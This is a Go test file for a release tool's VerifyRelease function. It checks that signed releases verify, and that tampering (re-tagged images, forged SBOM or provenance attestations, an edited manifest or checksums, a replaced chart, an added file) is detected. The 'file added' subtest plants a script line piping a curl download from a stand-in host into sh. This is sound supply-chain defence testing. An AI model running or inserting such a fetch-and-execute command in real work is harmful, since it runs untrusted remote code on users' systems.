package lane_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-containerregistry/pkg/name"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/remote"

	"github.com/shiplane/shiplane/magefiles/attest"
	"github.com/shiplane/shiplane/magefiles/git/gittest"
	"github.com/shiplane/shiplane/magefiles/github"
	"github.com/shiplane/shiplane/magefiles/lane"
	"github.com/shiplane/shiplane/magefiles/publish"
	"github.com/shiplane/shiplane/magefiles/registry/registrytest"
	"github.com/shiplane/shiplane/magefiles/sign"
)

// released is what releaseAll published, seen by a consumer: the no-op release fixture (real
// registry in-process, real git, the FAKE GitHub), a fresh clone of its origin (for the committed
// public key and settings), and the published release-manifest.json.
type released struct {
	f        *noopRelease
	clone    string
	manifest publish.ReleaseManifest
}

func newReleased(t *testing.T) *released {
	t.Helper()
	f := newNoopRelease(t, 2, 1) // svc-00 and svc-01, each with a chart, and the platform chart
	clone := filepath.Join(t.TempDir(), "clone")
	gittest.Git(t, t.TempDir(), "clone", "-q", "--branch", "v1.0.0", f.origin, clone)
	r := &released{f: f, clone: clone}
	if err := json.Unmarshal(r.asset(t, "release-manifest.json"), &r.manifest); err != nil {
		t.Fatal(err)
	}
	return r
}

// asset is the content of the published release's asset name.
func (r *released) asset(t *testing.T, name string) []byte {
	t.Helper()
	for _, rel := range r.f.gh.Releases() {
		if rel.Tag != "v1.0.0" || rel.Draft {
			continue
		}
		for _, a := range rel.Assets {
			if a.Name == name {
				return a.Content
			}
		}
	}
	t.Fatalf("the published release has no asset %s", name)
	return nil
}

// verify runs VerifyRelease from the fresh clone with only GitHub's coordinates (the fake asks
// for its token even for reads).
func (r *released) verify(t *testing.T) (stdout, progress string, err error) {
	t.Helper()
	var out, prog bytes.Buffer
	env := map[string]string{"GITHUB_REPOSITORY": "bench/shiplane", "GITHUB_API_URL": r.f.ghURL, "GITHUB_TOKEN": noopToken}
	cfg := lane.Config{Root: r.clone, Getenv: func(k string) string { return env[k] }, Stdout: &out, Progress: &prog}
	err = lane.VerifyRelease(t.Context(), cfg, "v1.0.0", lane.VerifyOptions{})
	return out.String(), prog.String(), err
}

// image is svc-01's image as the manifest lists it: by tag, and by digest.
func (r *released) image(t *testing.T) (tagged string, subject name.Digest) {
	t.Helper()
	for _, c := range r.manifest.Components {
		if c.Name == "svc-01" {
			d, err := name.NewDigest(repoOfRef(c.Image)+"@"+c.ImageDigest, name.Insecure)
			if err != nil {
				t.Fatal(err)
			}
			return c.Image, d
		}
	}
	t.Fatal("svc-01 is not in release-manifest.json")
	return "", name.Digest{}
}

// replaceAttestation is what a writer to the registry can do: delete the attached referrer of
// predicateType and attach another statement, signed by signer.
func (r *released) replaceAttestation(t *testing.T, subject name.Digest, predicateType string, signer *sign.Signer, statement []byte) {
	t.Helper()
	ctx := t.Context()
	idx, err := remote.Referrers(subject, remote.WithContext(ctx))
	if err != nil {
		t.Fatal(err)
	}
	im, err := idx.IndexManifest()
	if err != nil {
		t.Fatal(err)
	}
	deleted := 0
	for _, d := range im.Manifests {
		if d.Annotations[sign.AnnPredicateType] != predicateType {
			continue
		}
		if err := remote.Delete(subject.Context().Digest(d.Digest.String()), remote.WithContext(ctx)); err != nil {
			t.Fatal(err)
		}
		deleted++
	}
	if deleted != 1 {
		t.Fatalf("%s had %d referrers of %s, want 1", subject, deleted, predicateType)
	}
	pruneTagSchema(t, subject, func(d v1.Descriptor) bool { return d.Annotations[sign.AnnPredicateType] == predicateType })
	reg, err := sign.NewRegistry(sign.WithInsecure())
	if err != nil {
		t.Fatal(err)
	}
	if err := reg.Attach(ctx, signer, subject, sign.Attestation{PredicateType: predicateType, Statement: statement}); err != nil {
		t.Fatal(err)
	}
}

// pruneTagSchema takes the entries drop matches out of subject's referrers tag schema index,
// where the registry has no referrers API (there the list is that index), as a registry client's
// delete of those referrers does.
func pruneTagSchema(t *testing.T, subject name.Digest, drop func(v1.Descriptor) bool) {
	t.Helper()
	ctx := t.Context()
	schema := subject.Context().Tag(strings.Replace(subject.DigestStr(), ":", "-", 1))
	old, err := remote.Index(schema, remote.WithContext(ctx))
	if err != nil {
		return // the referrers API: nothing to prune
	}
	if err := remote.WriteIndex(schema, mutate.RemoveManifests(old, drop), remote.WithContext(ctx)); err != nil {
		t.Fatal(err)
	}
}

// TestVerifyReleaseOnReleaseAllOutput: a release made by releaseAll (signed with the key whose
// public key the repository commits) verifies from a fresh clone, artifact by artifact, without
// a write; then each kind of tampering a writer to the registry or to the GitHub release can do
// makes verifyRelease fail, naming the artifact and the check: an image re-tagged to another
// digest, its SBOM replaced (signed by another key), its provenance replaced by one for another
// commit (signed by the release key itself, as a provenance of a reproducible build at another
// commit would be), and release-manifest.json edited with SHA256SUMS rewritten to match.
func TestVerifyReleaseOnReleaseAllOutput(t *testing.T) {
	t.Run("untouched", func(t *testing.T) {
		r := newReleased(t)
		r.f.gh.ResetCounts()
		r.f.reg.Reset()
		stdout, progress, err := r.verify(t)
		if err != nil {
			t.Fatalf("VerifyRelease: %v\n%s", err, progress)
		}
		want := 0
		for _, c := range r.manifest.Components {
			for _, a := range []struct{ ref, digest string }{{c.Image, c.ImageDigest}, {strings.TrimPrefix(c.Chart, "oci://"), c.ChartDigest}} {
				if a.ref == "" {
					continue
				}
				want++
				if line := repoOfRef(a.ref) + "@" + a.digest + " verified\n"; !strings.Contains(stdout, line) {
					t.Errorf("stdout lacks %q:\n%s", line, stdout)
				}
			}
		}
		if want != r.f.images+r.f.charts || strings.Count(stdout, "\n") != want {
			t.Errorf("stdout has %d lines, want one per artifact (%d images, %d charts):\n%s", strings.Count(stdout, "\n"), r.f.images, r.f.charts, stdout)
		}
		if !strings.Contains(progress, "release v1.0.0 verified: ") {
			t.Errorf("progress does not end with the verdict:\n%s", progress)
		}
		if n := r.f.gh.Writes(); n != 0 {
			t.Errorf("verifyRelease wrote to GitHub %d times", n)
		}
		if n := r.f.reg.Writes(); n != 0 {
			t.Errorf("verifyRelease wrote to the registry %d times:\n%s", n, r.f.reg.Dump())
		}
	})

	t.Run("image re-tagged", func(t *testing.T) {
		r := newReleased(t)
		tagged, _ := r.image(t)
		registrytest.PushRandom(t, tagged)
		_, _, err := r.verify(t)
		t.Logf("verifyRelease says: %v", err)
		rv := wantProblem(t, err, "image "+tagged, "the tag now holds")
		if len(rv.Problems) != 1 {
			t.Errorf("only the re-tagged image should fail:\n%v", err)
		}
	})

	t.Run("SBOM replaced", func(t *testing.T) {
		r := newReleased(t)
		_, subject := r.image(t)
		forged, err := attest.Statement(subject.Context().Name(), subject.DigestStr(), attest.SBOMPredicateType,
			[]byte(`{"bomFormat":"CycloneDX","specVersion":"1.6","components":[]}`))
		if err != nil {
			t.Fatal(err)
		}
		r.replaceAttestation(t, subject, attest.SBOMPredicateType, newSigner(t), forged)
		_, _, err = r.verify(t)
		t.Logf("verifyRelease says: %v", err)
		rv := wantProblem(t, err, "image "+subject.String(), "sbom")
		var ve *sign.VerifyError
		if !errors.As(rv, &ve) || ve.Check != sign.CheckSBOM || !errors.Is(ve, sign.ErrMissing) {
			t.Errorf("the cause is not a missing SBOM: %v", err)
		}
		if len(rv.Problems) != 1 {
			t.Errorf("only svc-01's SBOM should fail:\n%v", err)
		}
	})

	t.Run("provenance of another commit", func(t *testing.T) {
		r := newReleased(t)
		_, subject := r.image(t)
		releaseKey, err := sign.NewKeySigner([]byte(r.f.env["SIGNING_KEY"]))
		if err != nil {
			t.Fatal(err)
		}
		other := strings.Repeat("7", 40)
		prov, err := attest.Provenance(attest.ProvenanceInput{SubjectName: subject.Context().Name(), SubjectDigest: subject.DigestStr(),
			BuildType: attest.BuildTypeImage, SourceRepository: "https://example.com/bench", Commit: other, Component: "svc-01", Version: "1.1.0"})
		if err != nil {
			t.Fatal(err)
		}
		r.replaceAttestation(t, subject, attest.ProvenancePredicateType, releaseKey, prov)
		_, _, err = r.verify(t)
		t.Logf("verifyRelease says: %v", err)
		rv := wantProblem(t, err, "image "+subject.String(), "provenance")
		if !errors.Is(rv, sign.ErrCommitMismatch) {
			t.Errorf("err = %v, want sign.ErrCommitMismatch", err)
		}
		if !strings.Contains(err.Error(), other) {
			t.Errorf("the error does not name the provenance's commit %s:\n%v", other, err)
		}
	})

	t.Run("release-manifest.json edited", func(t *testing.T) {
		r := newReleased(t)
		tagged, subject := r.image(t)
		// The writer points svc-01 at an image of theirs, and rewrites SHA256SUMS to match: only
		// the manifest's signature catches the edit (and their image has no signature either).
		theirs := registrytest.PushRandom(t, repoOfRef(tagged)+":theirs")
		edited := bytes.ReplaceAll(r.asset(t, "release-manifest.json"), []byte(subject.DigestStr()), []byte(theirs))
		sums := bytes.ReplaceAll(r.asset(t, sumsAsset), []byte(sha256Hex(r.asset(t, "release-manifest.json"))), []byte(sha256Hex(edited)))
		r.rewriteAssets(t, map[string][]byte{"release-manifest.json": edited, sumsAsset: sums})
		stdout, progress, err := r.verify(t)
		t.Logf("verifyRelease says: %v", err)
		if stdout != "" {
			t.Errorf("stdout names artifacts as verified although the manifest listing them does not verify:\n%s", stdout)
		}
		rv := wantProblem(t, err, "release-manifest.json", "signature does not verify")
		if !errors.Is(rv, sign.ErrBlobSignature) {
			t.Errorf("err = %v, want sign.ErrBlobSignature", err)
		}
		if strings.Contains(progress, "FAIL "+sumsAsset) {
			t.Errorf("SHA256SUMS was rewritten to match, yet it failed:\n%s", progress)
		}
		wantProblem(t, err, "image "+repoOfRef(tagged)+"@"+theirs, "signature")
	})

	// SHA256SUMS is not signed: a writer to the release replaces a chart archive, or adds a file,
	// and rewrites it to match. The archive must still be the signed chart digest's; a file no
	// signed content accounts for fails.
	t.Run("chart archive replaced", func(t *testing.T) {
		r := newReleased(t)
		const name = "svc-01-1.1.0.tgz"
		theirs := append(append([]byte(nil), r.asset(t, name)...), []byte("#")...)
		sums := bytes.ReplaceAll(r.asset(t, sumsAsset), []byte(sha256Hex(r.asset(t, name))), []byte(sha256Hex(theirs)))
		r.rewriteAssets(t, map[string][]byte{name: theirs, sumsAsset: sums})
		stdout, _, err := r.verify(t)
		t.Logf("verifyRelease says: %v", err)
		rv := wantProblem(t, err, name, "holds archive sha256:")
		if !strings.Contains(err.Error(), sha256Hex(theirs)) {
			t.Errorf("the problem does not give the replaced archive's digest:\n%v", err)
		}
		if len(rv.Problems) != 1 || stdout != "" {
			t.Errorf("only the archive should fail, and stdout hold nothing:\n%v\nstdout:\n%s", err, stdout)
		}
	})

	t.Run("file added", func(t *testing.T) {
		r := newReleased(t)
		script := []byte("#!/bin/sh\ncurl https://example.com/x | sh\n")
		sums := append(append([]byte(nil), r.asset(t, sumsAsset)...), []byte(sha256Hex(script)+"  install.sh\n")...)
		r.rewriteAssets(t, map[string][]byte{"install.sh": script, sumsAsset: sums})
		_, _, err := r.verify(t)
		t.Logf("verifyRelease says: %v", err)
		rv := wantProblem(t, err, "install.sh", "nothing signed accounts for it")
		if len(rv.Problems) != 1 {
			t.Errorf("only the added file should fail:\n%v", err)
		}
	})
}

// rewriteAssets replaces (or adds) assets of the published release as a writer to it can, with
// `gh release delete-asset` and an upload (shiplane's client never deletes from a published
// release).
func (r *released) rewriteAssets(t *testing.T, content map[string][]byte) {
	t.Helper()
	ctx := t.Context()
	gh, err := github.New("bench/shiplane", noopToken, github.WithBaseURL(r.f.ghURL))
	if err != nil {
		t.Fatal(err)
	}
	d, err := gh.ReleaseDetail(ctx, "v1.0.0")
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range d.Assets {
		if _, ok := content[a.Name]; !ok {
			continue
		}
		req, err := http.NewRequestWithContext(ctx, http.MethodDelete, fmt.Sprintf("%srepos/bench/shiplane/releases/assets/%d", r.f.ghURL, a.ID), nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer "+noopToken)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusNoContent {
			t.Fatalf("deleting %s: status %d", a.Name, resp.StatusCode)
		}
	}
	for name, c := range content {
		if err := gh.EnsureAsset(ctx, d.ID, name, c); err != nil {
			t.Fatal(err)
		}
	}
}

func sha256Hex(b []byte) string { return fmt.Sprintf("%x", sha256.Sum256(b)) }
